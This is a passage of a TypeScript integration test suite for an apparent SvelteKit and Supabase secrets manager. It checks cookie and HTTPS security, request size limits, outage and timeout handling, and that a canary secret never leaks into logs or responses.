	for (const part of ['STRIPE_SECRET_KEY', 'data-sveltekit-fetched', 'x-request-id']) {
		assert.ok(html.includes(part), part);
	}
	assert.equal(html.includes(value), false);
});

describe('in production', () => {
	// Supabase behind something that can lose it, and the page behind https.
	let lost = '';
	let hangs = '';
	let hanging = 0;
	const supabase = createServer((request, response) => {
		if (lost && request.url!.startsWith(lost)) return void request.socket.destroy();
		if (hangs && request.url!.startsWith(hangs)) return void hanging++;
		const { method, headers } = request;
		const forward = send(stack.supabaseUrl + request.url, { method, headers }, (answer) => {
			response.writeHead(answer.statusCode!, answer.headers);
			answer.pipe(response);
		});
		request.pipe(forward);
	});
	const origin = 'https://secrets.example';
	let page: Service;
	let url: string;
	let here: Call;

	before(async () => {
		const freePort = async (server = createServer()) => {
			await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
			return (server.address() as AddressInfo).port;
		};
		const probe = createServer();
		const port = await freePort(probe);
		await new Promise((closed) => probe.close(closed));
		url = `http://127.0.0.1:${port}`;
		const build = new URL('../../examples/sveltekit/build/index.js', import.meta.url).pathname;
		page = new Service(process.execPath, [build], `${stack.home}/production.log`, {
			HOST: '127.0.0.1', PORT: String(port), ORIGIN: origin, BODY_SIZE_LIMIT: '1536K',
			PUBLIC_SUPABASE_URL: `http://127.0.0.1:${await freePort(supabase)}`, PUBLIC_SUPABASE_ANON_KEY: stack.anonKey,
		});
		await page.until(async () => (await fetch(`${url}/login`)).ok);
		here = caller(url, { authorization: `Bearer ${await tokenOf(ALICE)}` });
	});
	after(async () => {
		await page.stop();
		supabase.closeAllConnections();
		supabase.close();
	});

	test('cookies are for https only, and so is the site', async () => {
		const { response, set } = await signIn(url, ALICE, { origin });
		assert.deepEqual([response.status, set.length > 0], [303, true]);
		for (const one of set) assert.match(one, /; HttpOnly; Secure; SameSite=Lax$/);
		assert.match((await here('GET', SECRETS)).headers.get('strict-transport-security')!, /^max-age=\d{8}/);
	});

	test('there are no demo accounts', async () => {
		const { body } = await caller(url, {})('GET', '/login/__data.json');
		assert.equal(JSON.stringify(body).includes('demo.test'), false);
	});

	test('large values get as far as the database', async () => {
		const large = (length: number) => here('POST', SECRETS, { name: 'LARGE', value: 'x'.repeat(length) });
		assert.match(refused(await large(1_048_576), 413, 'PT413').detail, /1048576 bytes/);
		assert.equal(refused(await large(1_700_000), 413, 'PT413').detail, null);
	});

	test('who does not answer is given up on', async () => {
		const isHanging = async (number: number) => {
			while (hanging < number) await setTimeout(20);
		};
		hangs = '/rest/';
		// The first asks with GET, the second with POST.
		const calls = [here('GET', `${SECRETS}/${NOWHERE}/versions`)];
		await isHanging(1);
		calls.push(here('POST', SECRETS, { name: 'HANGS', value: CANARY }));
		await isHanging(2);
		hangs = '/auth/';
		calls.push(here('GET', SECRETS));
		await isHanging(3);
		hangs = '';
		for (const answer of await Promise.all(calls)) refused(answer, 502, 'unavailable');
		assert.equal(hanging, 3, 'tried again');
	});

	test('an outage is told apart from a refusal', async () => {
		const { cookie, set } = await signIn(url, ALICE, { origin });
		lost = '/rest/';
		refused(await here('GET', SECRETS), 502, 'unavailable');
		refused(await here('POST', SECRETS, { name: 'LOST', value: CANARY }), 502, 'unavailable');
		lost = '/auth/';
		refused(await here('GET', SECRETS), 502, 'unavailable');
		assert.equal((await here('GET', '/')).status, 502);
		const { response } = await signIn(url, ALICE, { origin });
		assert.deepEqual([response.status, response.headers.getSetCookie()], [503, []]);
		// But one can sign out.
		const left = await caller(url, { cookie, origin })('POST', '/logout');
		assert.deepEqual([left.status, left.headers.get('location')], [303, '/login']);
		assert.equal(left.headers.getSetCookie().filter((one) => one.includes('Max-Age=0')).length, set.length);
		lost = '';
		fine(await here('GET', SECRETS));
		const log = readFileSync(`${stack.home}/production.log`, 'utf8');
		const entries = log.split('\n').filter((line) => line.startsWith('{')).map((line) => JSON.parse(line));
		const lostWrite = entries.find(({ method }) => method === 'POST');
		assert.match(lostWrite.id, /^[0-9a-f-]{36}$/);
		assert.equal(lostWrite.route, '/api/projects/[projectId]/secrets');
		assert.deepEqual([lostWrite.error, lostWrite.code, lostWrite.status], ['ApiError', 'unavailable', '502']);
		assert.deepEqual(Object.keys(lostWrite), ['id', 'route', 'method', 'error', 'code', 'status']);
	});
});

test('a value is in the answer to reveal, and nowhere else', async () => {
	const browser = caller(stack.url, { cookie: (await signIn(stack.url, ALICE)).cookie, origin: stack.url });
	const path = `${SECRETS}/${fine(await browser('POST', SECRETS, { name: 'CANARY', value: CANARY }), 201).id}`;
	assert.deepEqual(fine(await browser('POST', `${path}/reveal`, {})), { value: CANARY });
	fine(await browser('PUT', path, { value: `${CANARY}-2`, previous_valid_for: '1 hour' }));
	const former = fine(await browser('POST', `${path}/reveal`, { version: 1, purpose: 'copy' }));
	assert.deepEqual(former, { value: CANARY, version: 1 });
	refused(await browser('PUT', path, { value: CANARY, cas: 1 }), 409, 'PT409');
	fine(await browser('GET', SECRETS));
	fine(await browser('GET', `${path}/versions`));
	fine(await browser('POST', `${path}/rollback`, { version: 1 }));
	fine(await browser('PATCH', path, { expires_at: '2000-01-01T00:00:00Z' }));
	refused(await browser('POST', `${path}/reveal`, {}), 410, 'PT410');
	fine(await browser('GET', `/api/audit-logs?project_id=${SHOP}&format=csv`));
	fine(await operator('GET', '/api/audit-logs?page_size=1000'));
	fine(await browser('DELETE', path));
	assert.ok(heard.length > 200);
	for (const text of heard) assert.ok(!text.includes(CANARY), text.replaceAll(CANARY, '[canary]').slice(0, 500));

	const logs = [...readdirSync(stack.home).filter((file) => file.endsWith('.log')), 'server/log'];
	for (const log of ['page.log', 'gateway.log', 'production.log']) assert.ok(logs.includes(log), log);
	for (const log of logs) {
		const lines = readFileSync(`${stack.home}/${log}`, 'utf8').split('\n');
		const found = lines.filter((line) => line.includes(CANARY)).map((line) => line.replaceAll(CANARY, '[canary]'));
		assert.deepEqual(found, [], log);
	}
	// The log that was searched is one that would have told.
	assert.match(readFileSync(`${stack.home}/server/log`, 'utf8'), /secret_put/);
});
